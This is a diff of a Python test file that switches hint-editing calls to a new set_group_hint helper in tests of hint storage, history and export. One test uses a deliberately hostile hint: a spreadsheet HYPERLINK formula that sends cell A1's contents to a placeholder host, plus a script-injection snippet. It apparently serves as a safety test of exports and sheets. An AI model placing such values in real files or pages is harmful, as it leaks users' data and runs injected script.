@@ -18,6 +18,7 @@ from conftest import ARTIFACTS, copy_data_dir
 from unpose_core.coverage import completeness_score, rank_weight, usable_coverage
 from unpose_core.exports import to_csv
 from unpose_core.outputs import catalogue, explain, group_hints, render_sheet, sheets_zip, subject_ids
+from unpose_core.outputs.hints import set_group_hint
 from unpose_core.outputs.report import report
 from unpose_core.records import Reference, Status
 from unpose_core.store import Store
@@ -178,19 +179,19 @@ def test_report_and_catalogue_columns(demo_store, demo_run):
 def test_hint_store_normalises_keys_keeps_history_and_reaches_upgraded_stores(tmp_path):
     store = Store(tmp_path / "d")
     try:
-        assert store.set_hint("  Back,   FULL length ", "Turn around.", "test") == "back, full length"
-        store.set_hint("back, full length", "Turn around, arms relaxed.", "test")
+        assert set_group_hint(store, "  Back,   FULL length ", "Turn around.", "test") == "back, full length"
+        set_group_hint(store, "back, full length", "Turn around, arms relaxed.", "test")
         assert store.hints() == {"back, full length": "Turn around, arms relaxed."}
         v = store.hints_version()
-        store.set_hint("Back, full length", "", "test")      # clear: back to the generated hint
+        set_group_hint(store, "Back, full length", "", "test")      # clear: back to the generated hint
         assert store.hints() == {} and store.hints_version() > v
-        store.set_hint("Back, full length", "", "test")      # clearing nothing records nothing
+        set_group_hint(store, "Back, full length", "", "test")      # clearing nothing records nothing
         hist = store.hint_history()
         assert list(hist["action"]) == ["set", "set", "clear"]
         assert list(hist["hint"].fillna("")) == ["Turn around.", "Turn around, arms relaxed.", ""]
         with pytest.raises(ValueError):
-            store.set_hint("   ", "x")
-        store.set_hint("Size chart", "Add the size table.", "test")
+            set_group_hint(store, "   ", "x")
+        set_group_hint(store, "Size chart", "Add the size table.", "test")
     finally:
         store.close()
     # a v3 store without the tables gets them on opening (the v3 -> v4 step creates every table)
@@ -203,7 +204,7 @@ def test_hint_store_normalises_keys_keeps_history_and_reaches_upgraded_stores(tm
     store = Store(tmp_path / "d")
     try:
         assert store.opened_version == 3 and store.hints() == {} and store.hint_history().empty
-        store.set_hint("Size chart", "Add the size table.", "test")
+        set_group_hint(store, "Size chart", "Add the size table.", "test")
         assert store.hints() == {"size chart": "Add the size table."}
     finally:
         store.close()
@@ -227,7 +228,7 @@ def test_edited_hint_reaches_suggestions_exports_and_sheets_and_follows_a_retrai
         sug = next(x for x in (s.for_product(p) for p in subject_ids(store, run)) if len(x.missing) >= 2)
         top, other = sug.missing[0], sug.missing[1]
         evil = '=HYPERLINK("http://x/?"&A1,"click") <script>alert(1)</script> turn the model around'
-        store.set_hint(top.description.upper(), evil, "test")
+        set_group_hint(store, top.description.upper(), evil, "test")
         again = s.for_product(sug.product_id)
         s.close()
         assert again.missing[0].hint == evil and again.missing[0].hint_edited
@@ -249,7 +250,7 @@ def test_edited_hint_reaches_suggestions_exports_and_sheets_and_follows_a_retrai
         # that group's hint, in the groups list and in the suggestions; new descriptions get generated ones
         old = {h.label: f"Hint for {h.label}, written on {run.run_id}" for h in group_hints(store, run)}
         for label, hint in old.items():
-            store.set_hint(label, hint, "test")
+            set_group_hint(store, label, hint, "test")
         train(store, TrainConfig(k=8, seed=1))
         new = active_run(store)
         assert new.run_id != run.run_id and new.k != run.k
